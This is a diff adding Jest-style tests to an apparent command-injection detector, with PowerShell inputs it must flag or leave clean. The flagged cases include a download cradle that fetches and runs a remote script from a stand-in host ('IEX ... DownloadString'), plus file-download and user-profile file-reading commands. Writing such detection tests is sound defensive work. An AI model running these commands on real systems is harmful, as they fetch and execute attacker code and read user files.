@@ -1379,3 +1379,23 @@ describe('cmdi session 18: more cmdlets (Test-NetConnection, Resolve-DnsName, Ex
     expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
   });
 });
+
+describe('cmdi session 18: powershell opening the value runs the rest of its command line', () => {
+  // powershell (and pwsh) run what follows as a command: a command word given an argument or a '(' (the download cradle
+  // IEX (New-Object Net.WebClient).DownloadString(...)), a quote or '(' with a command or cmdlet inside, a cmdlet given
+  // an option or code
+  it.each(["powershell IEX (New-Object Net.WebClient).DownloadString('http://h.test/a.ps1')", 'pwsh iex (x)', 'powershell iex x',
+    'powershell iex(x)', 'powershell Invoke-Expression (x)', 'powershell "IEX (x)"', "powershell 'whoami'", 'powershell (New-Object Net.WebClient).DownloadFile(1,2)',
+    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // titles, searches and prose about PowerShell: a version, a parenthesis or quote with no command in it, a cmdlet alone or
+  // with words after it (a search for its documentation)
+  it.each(['powershell tutorial', 'PowerShell vs bash', 'powershell Get-Help', 'PowerShell (Windows) guide', 'PowerShell "for beginners"',
+    'PowerShell & Python', 'PowerShell (Get started)', 'powershell [beginner]', 'PowerShell 7.4', 'powershell Get-Process',
+    'powershell get-childitem recurse', 'powershell "x"'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
